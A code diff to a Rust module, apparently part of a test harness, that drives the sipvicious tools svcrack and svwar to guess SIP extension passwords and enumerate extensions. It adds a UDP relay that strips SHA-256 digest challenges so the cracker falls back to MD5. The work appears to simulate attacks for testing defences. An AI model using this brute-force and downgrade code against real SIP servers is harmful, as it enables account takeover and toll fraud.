@@ -1,7 +1,10 @@
 //! Somebody who guesses and scans with the programs that real ones use: Debian's `sipvicious`.
 
-use std::net::{IpAddr, SocketAddr};
+use std::io;
+use std::net::{IpAddr, SocketAddr, UdpSocket};
 use std::process::Command;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::time::Duration;
 
 use native::NativeError;
 
@@ -24,6 +27,9 @@ impl Attacker {
 
     /// Guesses these passwords of an extension, in order: which was right, if he found out.
     ///
+    /// The program reads the first challenge of an answer only and knows no SHA-256, so that by
+    /// itself it gives up here; it is helped by somebody in between who leaves MD5 alone.
+    ///
     /// # Errors
     /// `svcrack` is missing.
     pub fn crack(
@@ -35,7 +41,21 @@ impl Attacker {
         std::fs::write(&words, passwords.join("\n") + "\n")
             .map_err(NativeError::io("write", &words))?;
         let file = words.display().to_string();
-        let said = self.run("svcrack", &["-u", extension, "-d", &file])?;
+        let relay = UdpSocket::bind((self.address, 0))
+            .and_then(|socket| socket.set_read_timeout(Some(LOOK_EVERY)).map(|()| socket))
+            .map_err(NativeError::io("bind", &self.folder))?;
+        let at = relay
+            .local_addr()
+            .map_err(NativeError::io("bind", &self.folder))?;
+        let is_over = AtomicBool::new(false);
+        let said = std::thread::scope(|scope| {
+            scope.spawn(|| without_sha256(&relay, self.server, &is_over));
+            let domain = self.server.ip().to_string();
+            let words = ["-u", extension, "-d", &file, "--domain", &domain];
+            let said = self.run("svcrack", at, &words);
+            is_over.store(true, Ordering::Relaxed);
+            said
+        })?;
         // | 1000      | secret   |
         let found = said.lines().find_map(|line| {
             let mut cells = line.split('|').map(str::trim).skip(1);
@@ -50,7 +70,7 @@ impl Attacker {
     /// `svwar` is missing.
     pub fn enumerate(&self, from: u16, to: u16) -> Result<Vec<String>, NativeError> {
         let range = format!("{from}-{to}");
-        let said = self.run("svwar", &["-e", &range])?;
+        let said = self.run("svwar", self.server, &["-e", &range])?;
         let found = said.lines().filter_map(|line| {
             let cell = line.split('|').map(str::trim).nth(1)?;
             let is_number = !cell.is_empty() && cell.bytes().all(|it| it.is_ascii_digit());
@@ -59,9 +79,14 @@ impl Attacker {
         Ok(found.collect())
     }
 
-    /// Runs one of his programs against the box; what it says in the end.
-    fn run(&self, program: &'static str, arguments: &[&str]) -> Result<String, NativeError> {
-        let (server, own) = (self.server, self.address.to_string());
+    /// Runs one of his programs against a server; what it says in the end.
+    fn run(
+        &self,
+        program: &'static str,
+        server: SocketAddr,
+        arguments: &[&str],
+    ) -> Result<String, NativeError> {
+        let own = self.address.to_string();
         let output = Command::new(program)
             .args(["-b", &own, "-x", &own, "-p", &server.port().to_string()])
             // What hears nothing for so many seconds gives up.
@@ -80,3 +105,33 @@ impl Attacker {
         Ok(said + &String::from_utf8_lossy(&output.stderr))
     }
 }
+
+/// Carries datagrams between a client and the server, and of challenges the first, SHA-256's, not.
+fn without_sha256(relay: &UdpSocket, server: SocketAddr, is_over: &AtomicBool) {
+    let mut buffer = [0; 65_536];
+    let mut client = None;
+    while !is_over.load(Ordering::Relaxed) {
+        let (length, from) = match relay.recv_from(&mut buffer) {
+            Ok(received) => received,
+            Err(error) if error.kind() == io::ErrorKind::WouldBlock => continue,
+            Err(error) => panic!("the relay reads: {error}"),
+        };
+        let text = String::from_utf8_lossy(&buffer[..length]);
+        let (text, to) = if from == server {
+            let is_kept = |line: &&str| !line.contains("algorithm=SHA-256");
+            (
+                text.split_inclusive("\r\n").filter(is_kept).collect(),
+                client,
+            )
+        } else {
+            client = Some(from);
+            (text.into_owned(), Some(server))
+        };
+        if let Some(to) = to {
+            relay.send_to(text.as_bytes(), to).expect("a datagram");
+        }
+    }
+}
+
+/// How often the relay looks whether it is over.
+const LOOK_EVERY: Duration = Duration::from_millis(50);
